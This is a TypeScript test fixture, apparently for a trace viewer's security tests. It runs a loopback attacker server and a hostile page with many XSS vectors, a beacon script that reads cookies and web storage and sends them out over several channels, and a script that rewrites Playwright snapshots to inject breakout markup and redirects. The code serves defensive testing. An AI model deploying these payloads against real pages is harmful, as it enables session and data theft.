// The attacker of the trace viewer tests: a loopback server that serves a hostile page, the files its
// vectors load, and a beacon that every vector calls when its script runs, with what it could read
// there (cookies, sessionStorage, localStorage, the top page's address and storage). The page also
// takes over Playwright's snapshotter (it runs in the page's own world), so the snapshots recorded
// of it hold HTML the renderer never sees in a real DOM: attribute names that break out of their
// tag, frames and a <meta> refresh that load the agent's own page at the hub's origin.
import http from "node:http";
import type net from "node:net";
import { until } from "../../helpers/wait.js";

/** A vector's script, if it runs, sends this beacon by every way that might get out: fetch (past the viewer's service worker), WebSocket, sendBeacon, an image. */
function beaconFunction(origin: string): string {
  const ws = origin.replace(/^http/, "ws");
  return `function(v){var dump=function(s){var o={};try{for(var i=0;i<s.length;i++){var k=s.key(i);o[k]=s.getItem(k)}}catch(e){return 'denied'}return o};var top_='';try{top_=String(window.top.location.href)+' '+JSON.stringify(dump(window.top.sessionStorage))}catch(e){top_='denied'}var d=encodeURIComponent(JSON.stringify({origin:location.origin,href:location.href,cookie:(function(){try{return document.cookie}catch(e){return 'denied'}})(),session:dump(sessionStorage),local:dump(localStorage),top:top_}));var q='?v='+encodeURIComponent(v)+'&d='+d;try{fetch('${origin}/beacon'+q,{headers:{'x-pw-serviceworker':'skip'}}).catch(function(){})}catch(e){}try{new WebSocket('${ws}/beacon'+q)}catch(e){}try{navigator.sendBeacon('${origin}/beacon'+q)}catch(e){}try{new Image().src='${origin}/beacon'+q}catch(e){}}`;
}

/** Script vectors that run when the page is opened in Chromium directly (the control). */
export const DIRECT_SCRIPT_VECTORS = [
  "inline-script",
  "script-src",
  "base-script",
  "body-onload",
  "img-onerror",
  "svg-onload",
  "svg-script",
  "a-javascript",
  "iframe-javascript",
  "form-javascript",
  "iframe-srcdoc",
  "iframe-src",
  "object",
  "embed",
  "declarative-shadow-script",
  "declarative-shadow-onerror",
  "shadow-onerror",
  "injected-script",
  "injected-onerror",
];
/** Plain fetches of the attacker's server (no script): they would tell it the page was opened. */
export const DIRECT_PLAIN_VECTORS = ["css-url", "link-stylesheet", "link-prefetch", "img-src", "base-img", "meta-refresh-nav"];
/** Where the snapshots' injected frames and refreshes send the person: the agent's page at the hub's origin (`?via=`). */
export const INJECTED_ROUTES = ["nested-frame", "nested-refresh", "top-refresh"];

export interface Hit {
  phase: string;
  /** `/beacon` (a script ran), `/barrier` (the test's own) or what a plain fetch asked for. */
  path: string;
  vector: string | null;
  /** What the script read, as it sent it (JSON). */
  data: string | null;
  raw: string;
}

export interface Attacker {
  origin: string;
  hits: Hit[];
  /** Tag the hits from now on (each part of the test has its own). */
  phase: string;
  /** The agent's page at the hub's origin (a preview in the path form) the snapshots send the person to. */
  agentPage: string;
  /** Connections opened, by phase: Chromium connects ahead of a frame's navigation, before a Content-Security-Policy refuses it, and asks nothing on it. */
  connections: Record<string, number>;
  scripts(phase: string): Hit[];
  /** Until no connection of the last part is open (an earlier browser's late beacon would count against the next part). */
  quiet(): Promise<void>;
  close(): Promise<void>;
}

const attr = (s: string) => s.replace(/&/g, "&amp;").replace(/"/g, "&quot;").replace(/</g, "&lt;");

export async function startAttacker(): Promise<Attacker> {
  const sockets = new Set<net.Socket>();
  const server = http.createServer((req, res) => {
    const url = new URL(req.url ?? "/", "http://attacker");
    attacker.hits.push({ phase: attacker.phase, path: url.pathname, vector: url.searchParams.get("v"), data: url.searchParams.get("d"), raw: req.url ?? "" });
    const cors = { "Access-Control-Allow-Origin": "*", "Access-Control-Allow-Headers": "*" };
    const html = (body: string) => res.writeHead(200, { "Content-Type": "text/html" }).end(body);
    if (req.method === "OPTIONS") return void res.writeHead(204, cors).end();
    if (url.pathname === "/hostile") return void html(hostilePage());
    if (url.pathname === "/frame.html") return void html(`<p>frame</p><script>${call(url.searchParams.get("v") ?? "frame")}</script>`);
    if (url.pathname.endsWith(".js")) return void res.writeHead(200, { "Content-Type": "text/javascript" }).end(call(url.searchParams.get("v") ?? "js"));
    if (url.pathname === "/refresh.html") return void html(`<meta http-equiv="refresh" content="0;url=${origin}/res?v=meta-refresh-nav">`);
    res.writeHead(200, { "Content-Type": "text/plain", ...cors }).end("ok");
  });
  server.on("connection", (socket) => {
    attacker.connections[attacker.phase] = (attacker.connections[attacker.phase] ?? 0) + 1;
    sockets.add(socket);
    socket.on("close", () => sockets.delete(socket));
  });
  // a WebSocket is one way out a service worker never sees: counted, then dropped
  server.on("upgrade", (req, socket) => {
    const url = new URL(req.url ?? "/", "http://attacker");
    attacker.hits.push({ phase: attacker.phase, path: url.pathname, vector: url.searchParams.get("v"), data: url.searchParams.get("d"), raw: req.url ?? "" });
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const origin = `http://127.0.0.1:${(server.address() as net.AddressInfo).port}`;
  const call = (vector: string) => `(${beaconFunction(origin)})(${JSON.stringify(vector)})`;

  function hostilePage(): string {
    const handler = (vector: string) => attr(call(vector));
    return `<!doctype html><html><head><title>hostile</title>
<base href="${origin}/based/">
<link rel="prefetch" href="${origin}/res?v=link-prefetch">
<link rel="stylesheet" href="${origin}/res?v=link-stylesheet">
<style>body{background-image:url(${origin}/res?v=css-url)}</style>
<script>${call("inline-script")}</script>
<script src="${origin}/x.js?v=script-src"></script>
<script src="rel.js?v=base-script"></script>
</head><body onload="${handler("body-onload")}">
<h1>hostile page</h1>
<img src="${origin}/res?v=img-src" onerror="${handler("img-onerror")}">
<img src="rel.png?v=base-img">
<svg width="10" height="10" onload="${handler("svg-onload")}"></svg>
<svg width="10" height="10"><script><![CDATA[${call("svg-script")}]]></script></svg>
<a id="jslink" href="javascript:${handler("a-javascript")}">a link</a>
<iframe src="javascript:${handler("iframe-javascript")}"></iframe>
<form action="javascript:${handler("form-javascript")}"><input id="q" aria-label="q"><button id="send">send</button></form>
<iframe srcdoc="${attr(`<script>${call("iframe-srcdoc")}</script>`)}"></iframe>
<iframe src="${origin}/refresh.html"></iframe>
<iframe src="${origin}/frame.html?v=iframe-src"></iframe>
<object data="${origin}/frame.html?v=object" type="text/html"></object>
<embed src="${origin}/frame.html?v=embed" type="text/html">
<div><template shadowrootmode="open"><p>shadow</p><script>${call("declarative-shadow-script")}</script><img src="x" onerror="${handler("declarative-shadow-onerror")}"></template></div>
<template><script>${call("template-script")}</script></template>
<div id="host"></div>
<script>
addEventListener("load", function () {
  document.getElementById("host").attachShadow({ mode: "open" }).innerHTML = ${JSON.stringify(`<img src="x" onerror="${handler("shadow-onerror")}">`)};
  var s = document.createElement("script"); s.textContent = ${JSON.stringify(call("injected-script"))}; document.body.appendChild(s);
  var i = document.createElement("img"); i.src = "x"; i.setAttribute("onerror", ${JSON.stringify(call("injected-onerror"))}); document.body.appendChild(i);
});
${hijack()}
</script>
</body></html>`;
  }

  /** Script of the page that rewrites every snapshot Playwright takes of it (appended to the real one). */
  function hijack(): string {
    const via = (route: string) => `${attacker.agentPage}?via=${route}`;
    // in every snapshot: markup that breaks out of attribute names, handlers and frames the renderer would rename
    const always = [
      ["DIV", { [`x><script>${call("hijack-breakout-script")}</script><x`]: "" }],
      ["IMG", { src: "x", " onerror": call("hijack-onerror") }],
      ["IFRAME", { "srcdoc ": `<script>${call("hijack-srcdoc")}</script>` }],
      ["OBJECT", { "data ": via("object"), type: "text/html" }],
      ["EMBED", { "src ": via("embed"), type: "text/html" }],
      ["LINK", { rel: "prefetch", href: `${origin}/res?v=hijack-prefetch` }],
      ["LINK", { rel: "preconnect", href: origin }],
      ["LINK", { rel: "stylesheet", href: `${origin}/res?v=hijack-stylesheet` }],
      ["A", { id: "hijack-link", href: `javascript:${call("hijack-a-javascript")}` }, "hijacked link"],
    ];
    // once the agent has typed "go": frames and refreshes that load other pages. A first frame with a
    // bounding box that is no JSON stops the viewer's script before it points frames at its blank page.
    const afterGo = [
      ["IFRAME", { __playwright_bounding_rect__: "{" }],
      ["IFRAME", { "src ": via("nested-frame") }],
      ["IFRAME", { "srcdoc ": `<meta http-equiv="refresh" content="0;url=${via("nested-refresh")}">` }],
      ["IFRAME", { "src ": `${origin}/frame.html?v=hijack-attacker-frame` }],
      ["IFRAME", { "src ": `data:text/html,<script>${call("hijack-data-frame")}</script>` }],
      ["META", { "http-equiv ": "refresh", content: `0;url=${via("top-refresh")}` }],
    ];
    const json = (nodes: unknown) => JSON.stringify(nodes).replace(/</g, "\\u003c");
    return `(function () {
  var name = Object.getOwnPropertyNames(window).find(function (n) { return n.indexOf("__playwright_snapshot_streamer_") === 0; });
  if (!name) return;
  ${call("hijack-installed")};
  var streamer = window[name], capture = streamer.captureSnapshot.bind(streamer);
  streamer.captureSnapshot = function () {
    // a full snapshot each time (no references to earlier ones), with the markup added to its body
    var snapshot = capture("history");
    var body = (snapshot.html || []).find(function (n) { return Array.isArray(n) && n[0] === "BODY"; });
    if (!body) return snapshot;
    var go = document.getElementById("q").value === "go";
    if (go) body.splice(2, 0, ${json(afterGo.slice(0, 1))}[0]);
    body.push.apply(body, ${json(always)}.concat(go ? ${json(afterGo.slice(1))} : []));
    return snapshot;
  };
})();`;
  }

  const attacker: Attacker = {
    origin,
    hits: [],
    phase: "setup",
    agentPage: "",
    connections: {},
    scripts: (phase) => attacker.hits.filter((h) => h.phase === phase && h.path === "/beacon"),
    async quiet() {
      server.closeIdleConnections();
      await until("the attacker's connections to close", () => sockets.size === 0, 30_000);
    },
    close: () =>
      new Promise((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
  return attacker;
}

/** The agent's own page, served at the hub's origin by a preview: it reports where it runs and what it reads there. */
export function agentPage(attacker: Attacker): string {
  const route = `'agent-page-' + (new URLSearchParams(location.search).get('via') || 'opened')`;
  return `<!doctype html><title>agent's page</title><h1>agent's page</h1><script>(${beaconFunction(attacker.origin)})(${route})</script>`;
}
